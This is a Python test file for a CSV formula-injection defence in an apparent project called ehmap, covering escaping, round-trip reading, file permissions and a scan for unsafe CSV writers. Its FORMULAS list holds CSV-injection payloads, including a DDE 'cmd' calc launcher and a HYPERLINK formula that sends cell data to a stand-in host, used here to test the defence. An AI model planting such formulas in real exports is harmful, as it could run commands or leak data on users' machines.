"""Formula-safe CSV writing (ehmap.safe_output) and reading it back (ehmap.exports.read_export)."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ehmap.exports import read_export
from ehmap.safe_output import csv_bytes, escape_cell, needs_quote, unescape_cell, write_csv

REPO = Path(__file__).resolve().parent.parent

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign, which some spreadsheets also take as a formula
]
PLAIN_NUMBERS = ["-2", "+3", "-1.5", "+0.25", "-1e5", "-.5", "12"]
QUOTED = ["'", "''", "'hello", "'=1+1", "''=1+1", "'-2", "'@x"]
ORDINARY = ["", "Family Support Central", "needs met", "a=b", "x-y", "mail@example.invalid", "O'Brien"]


def spreadsheet_would_evaluate(cell: str) -> bool:
    """What Excel and LibreOffice do with a CSV cell: a leading formula character, unless it is a plain number."""
    triggers = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    return cell.startswith(triggers) and re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell) is None


def cells_of(data: bytes) -> list[str]:
    """Every cell of a CSV, header included, as a spreadsheet would read it."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text_with_one_quote_in_front(value):
    assert escape_cell(value) == "'" + value
    assert not spreadsheet_would_evaluate(escape_cell(value))


@pytest.mark.parametrize("value", PLAIN_NUMBERS + ORDINARY)
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", QUOTED)
def test_a_value_that_really_starts_with_a_quote_gets_one_more_so_it_survives(value):
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", FORMULAS + PLAIN_NUMBERS + QUOTED + ORDINARY)
def test_unescape_undoes_escape_exactly(value):
    assert unescape_cell(escape_cell(value)) == value


def test_a_quote_ehmap_did_not_add_is_kept_on_reading():
    # "'hello" cannot have come from escape_cell (it would be "''hello"), so the quote is the data's own.
    assert not needs_quote("hello") and unescape_cell("'hello") == "'hello"
    assert unescape_cell("'-2") == "'-2"  # escape_cell never quotes a plain number


def test_non_text_cells_are_left_alone():
    assert escape_cell(-2) == -2 and escape_cell(None) is None and escape_cell(-1.5) == -1.5


def test_csv_has_no_live_formula_and_reads_back_to_the_original_text():
    values = FORMULAS + PLAIN_NUMBERS + QUOTED + ORDINARY
    frame = pd.DataFrame({
        "=header": values,  # headers can be data too (a column per service)
        "text": pd.Series(list(reversed(values)), dtype="string"),
        "category": pd.Categorical(values),
        "number": range(len(values)),
    })
    data = csv_bytes(frame)
    assert not [cell for cell in cells_of(data) if spreadsheet_would_evaluate(cell)]
    back = read_export(data, "out.csv")
    assert back.columns.tolist() == ["=header", "text", "category", "number"]
    assert back["=header"].tolist() == values
    assert back["text"].tolist() == list(reversed(values))
    assert back["category"].tolist() == values
    assert back["number"].tolist() == [str(i) for i in range(len(values))]


def test_an_xlsx_made_from_ehmap_output_reads_back_to_the_original_text():
    values = FORMULAS[:4] + QUOTED + ORDINARY[1:]
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Service"])
    for value in values:
        sheet.append([escape_cell(value)])  # a spreadsheet keeps the quoted text as the cell's text
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_export(buffer.getvalue(), "services.xlsx")["Service"].tolist() == values


def test_missing_values_stay_missing():
    frame = pd.DataFrame({"a": ["=1", None], "b": pd.Series(["x", pd.NA], dtype="string")})
    assert csv_bytes(frame).decode() == "a,b\r\n'=1,x\r\n,\r\n"


def test_private_csv_is_readable_by_its_owner_only(tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text("old")
    os.chmod(path, 0o644)
    write_csv(pd.DataFrame({"service": ["=1+1"]}), path, private=True)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes() == b"service\r\n'=1+1\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["cases.csv"]  # no temporary file left behind


def test_an_ordinary_csv_gets_the_usual_permissions(tmp_path):
    umask = os.umask(0o022)
    try:
        write_csv(pd.DataFrame({"area": ["Addiscombe"]}), tmp_path / "areas.csv")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "areas.csv").stat().st_mode) == 0o644


def test_nothing_in_the_app_or_cli_writes_a_csv_except_through_safe_output():
    """Every CSV the pages, the CLI or ehmap write goes through ehmap.safe_output (no bare DataFrame.to_csv)."""
    sources = [*REPO.glob("pages/**/*.py"), *REPO.glob("ehmap/**/*.py"), *REPO.glob("ui/**/*.py"), REPO / "app.py"]
    offenders = [f"{path.relative_to(REPO)}:{number}"
                 for path in sources if path.name != "safe_output.py"
                 for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                 if re.search(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|DictWriter\(", line)]
    assert offenders == []
